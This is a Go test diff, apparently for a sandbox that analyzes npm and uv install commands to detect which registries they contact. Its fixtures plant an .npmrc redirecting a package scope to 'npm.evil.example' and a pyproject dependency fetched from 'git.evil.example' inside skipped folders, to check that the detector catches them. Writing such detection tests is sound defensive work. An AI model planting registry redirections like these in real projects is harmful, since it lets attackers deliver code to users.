@@ -196,3 +196,52 @@ func TestRequirementFileKinds(t *testing.T) {
 		}
 	}
 }
+
+// TestInstallIntoSkippedFolder: an install pointed into a folder the walk
+// and the credential scan skip (node_modules, vendor) reads that folder's
+// configuration directly: on the host it is named, in the sandbox it is
+// taken as hidden and handed to the run (issue 16, M5).
+func TestInstallIntoSkippedFolder(t *testing.T) {
+	ws := t.TempDir()
+	writeTree(t, ws, map[string]string{
+		"package.json":                  "{}",
+		"node_modules/foo/package.json": "{}",
+		"node_modules/foo/.npmrc":       "@s:registry=https://npm.evil.example/\n",
+		"vendor/x/pyproject.toml":       "[project]\nname = \"x\"\ndependencies = [\"y @ git+https://git.evil.example/y\"]\n",
+	})
+	cfg, err := grants.Parse([]byte("profile = \"interactive-dev\"\n"), "t.toml", ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := grants.Compile(cfg, grants.CompileOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	npmrc := []string{filepath.Join(ws, "node_modules/foo/.npmrc")}
+	for _, tc := range []struct {
+		line    string
+		surface grants.Surface
+		hosts   string
+		hidden  []string
+	}{
+		{"npm --prefix node_modules/foo i @s/x", grants.SurfaceHost, "registry.npmjs.org npm.evil.example", nil},
+		{"cd node_modules/foo && npm i @s/x", grants.SurfaceHost, "registry.npmjs.org npm.evil.example", nil},
+		{"npm --prefix=node_modules/foo i @s/x", grants.SurfaceSandbox, "registry.npmjs.org", npmrc},
+		{"cd node_modules/foo && npm i @s/x", grants.SurfaceSandbox, "registry.npmjs.org", npmrc},
+		{"uv sync --directory vendor/x", grants.SurfaceSandbox, "pypi.org git.evil.example", nil},
+		{"uv run --project vendor/x pytest", grants.SurfaceSandbox, "pypi.org git.evil.example", nil},
+		{"npm --prefix \"$D\" i @s/x", grants.SurfaceHost, "registry.npmjs.org " + cmdline.Dynamic, nil},
+	} {
+		a, err := cmdline.Analyze(tc.line)
+		if err != nil {
+			t.Fatal(err)
+		}
+		reqs, hidden, err := requests(p, a, ws, tc.surface)
+		if err != nil {
+			t.Fatalf("%q: %v", tc.line, err)
+		}
+		if got := installHosts(reqs); got != tc.hosts || !slices.Equal(hidden, tc.hidden) {
+			t.Errorf("%q (%s): hosts %q hidden %q, want %q %q", tc.line, tc.surface, got, hidden, tc.hosts, tc.hidden)
+		}
+	}
+}
